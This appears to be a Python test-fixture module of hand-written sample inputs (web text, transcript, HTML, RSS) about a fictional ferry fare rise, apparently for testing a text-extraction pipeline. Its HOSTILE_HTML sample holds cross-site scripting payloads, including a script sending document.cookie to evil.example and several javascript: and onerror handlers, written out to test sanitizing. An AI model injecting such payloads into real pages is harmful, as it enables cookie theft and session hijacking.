"""Hand-written examples of every input shape (our own text, not third-party articles)."""

WEBTEXT = """Skip to main content

Menu
Search

Harbour council approves ferry fare rise

Harbour council approves ferry fare rise

Share this story

Ferry at dawn (STOCK)
Ferry at dawn (STOCK)

The harbour council voted on Monday to raise ferry fares by 12 percent from April, saying fuel costs had doubled since 2021.

"We held prices for three years," council leader Ana Ruiz said. "We cannot hold them any longer."

"We cannot hold them any longer."

Advertisement

Commuter groups said the rise would push more people into cars, and asked the council to phase it in over two years.

Update: The council said on Tuesday that season tickets bought before April will keep the old price.

Related stories
Tweet with a location
"""

TRANSCRIPT = """00:12
The harbour has been busier than ever this spring, and the council wants a bigger share of the money.
ANA RUIZ, LEADER HARBOUR COUNCIL "We held prices for three years. We cannot hold them any longer."
Commuters say they were not consulted.
[00:01:22]
TOM BERG, PROFESSOR UNIVERSITY OF PORTLAND "Fare rises like this push people back into their cars."
LINA OKAFOR, VP NORDFERRY PASSENGER SERVICES GROUP "We will add two more crossings a day."
"""

STRIPPED = """The council s leader said fares would rise by 12 percent the first increase in three years
Ferry users aren t happy The council didn t consult them said Tom Berg a professor at the university
The operator made US 4 5 million in profit last year In addition it received a grant from the U S government
We held prices for three years He said
"""

PLAIN = """Harbour council approves ferry fare rise

The harbour council voted on Monday to raise ferry fares by 12 percent
from April. Officials said fuel costs had doubled since 2021 and that the
operator could not absorb them.

Commuter groups asked the council to phase the rise in over two years.
The vote was 7 to 2.
"""

HOSTILE_HTML = """<html><head><title>Council raises fares</title>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('x')"><div class="nav"><a href="javascript:alert(2)">Click me</a></div>
<article><h1>Council raises fares</h1>
<p>The harbour council voted to raise ferry fares by twelve percent from April, citing fuel costs.
<img src="x" onerror="alert(3)"></p>
<p>Commuter groups said the rise would push people into cars <iframe src="javascript:alert(4)"></iframe>
and asked for the increase to be phased in over two years.</p>
<p>The article mentions the literal text &lt;script&gt; as words, which is fine.</p>
<svg onload="alert(5)"><script>alert(6)</script></svg>
</article></body></html>"""

MALFORMED_HTML = "<html><body><p>Unclosed paragraph about the ferry vote<div><p>Another <b>bold <i>claim</b> that the council made about fares on Monday</p><table><tr><td>cell"

ARTICLE_HTML = """<!doctype html><html><head><title>Port city opens new ferry terminal</title>
<meta property="og:site_name" content="Harbour Daily">
<meta name="author" content="Mira Castell">
<meta property="article:published_time" content="2021-03-04T08:00:00Z">
</head><body><nav><a href="/">Home</a> <a href="/news">News</a></nav>
<article><h1>Port city opens new ferry terminal</h1>
<p>The port authority opened a new ferry terminal on Wednesday, ending four years of construction on the
eastern quay. Officials said the building can handle two million passengers a year.</p>
<p>"This is the biggest change to the harbour in a generation," said harbour master Ilse Brandt.
The terminal cost 48 million euros, most of it paid by the regional government.</p>
<p>Ferry operators will move their ticket offices to the new building by the end of the month.</p>
</article><footer>Copyright Harbour Daily</footer></body></html>"""

SECOND_HTML = ARTICLE_HTML.replace("ferry terminal", "cargo pier").replace(
    "Ilse Brandt", "Tomas Berg"
)

FEED_XML = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Harbour Daily</title><link>http://example.invalid/</link>
<description>Harbour news</description>
<item><title>Port city opens new ferry terminal</title><link>{base}/article.html</link>
<pubDate>Thu, 04 Mar 2021 08:00:00 GMT</pubDate></item>
<item><title>Cargo pier</title><link>{base}/second.html</link>
<pubDate>Fri, 05 Mar 2021 08:00:00 GMT</pubDate></item>
<item><title>Gone</title><link>{base}/missing.html</link></item>
</channel></rss>"""
